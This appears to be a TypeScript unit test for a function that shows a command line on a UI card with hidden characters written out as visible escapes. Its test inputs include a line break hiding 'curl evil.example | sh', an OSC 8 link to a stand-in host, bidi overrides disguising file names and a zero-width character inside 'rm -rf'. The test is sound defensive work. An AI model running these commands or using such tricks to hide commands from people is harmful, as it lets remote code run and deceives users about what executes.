// The command line as its card shows it: hostile text (terminal escapes, OSC 8 links, bidirectional controls,
// zero-width characters, a line break hiding a second command) written out as visible escapes; the rest as it is.
import assert from 'node:assert/strict';
import { visibleCommandLine, visibleCommandSegments } from '../../../src/core/text/visibleCommandLine';

describe('a command line shown on its card', () => {
  it('shows a plain line as it is, in one segment', () => {
    assert.deepEqual(visibleCommandSegments('npm test -- --grep "a b" | tee out.txt'), [{ text: 'npm test -- --grep "a b" | tee out.txt', escaped: false }]);
  });

  it('writes out a line break that would hide a second command, and breaks the line after it so both show', () => {
    assert.deepEqual(visibleCommandSegments('npm test\ncurl evil.example | sh'), [
      { text: 'npm test', escaped: false },
      { text: '\\n', escaped: true, breakAfter: true },
      { text: 'curl evil.example | sh', escaped: false },
    ]);
    assert.equal(visibleCommandLine('a\r\nb'), 'a\\r\\nb');
  });

  it('writes out terminal escapes, OSC 8 links and other control characters', () => {
    assert.equal(visibleCommandLine('echo \u001b[8mhidden\u001b[0m'), 'echo \\e[8mhidden\\e[0m');
    assert.equal(visibleCommandLine('\u001b]8;;https://evil.example\u0007ls\u001b]8;;\u0007'), '\\e]8;;https://evil.example\\x07ls\\e]8;;\\x07');
    assert.equal(visibleCommandLine('a\u0000b\u007fc\u009bd\te'), 'a\\0b\\x7fc\\x9bd\\te');
  });

  it('writes out bidirectional controls and zero-width characters, and keeps visible non-ASCII as it is', () => {
    assert.equal(visibleCommandLine('ls \u202Eexe.txt\u202C'), 'ls \\u{202E}exe.txt\\u{202C}');
    assert.equal(visibleCommandLine('rm\u200B -rf x\u2066y\u2069'), 'rm\\u{200B} -rf x\\u{2066}y\\u{2069}');
    assert.equal(visibleCommandLine('echo \u{E0041}'), 'echo \\u{E0041}');
    assert.equal(visibleCommandLine('echo café ѕh'), 'echo café ѕh');
    const segments = visibleCommandSegments('a\u202Eb');
    assert.deepEqual(segments.map((segment) => segment.escaped), [false, true, false]);
  });
});
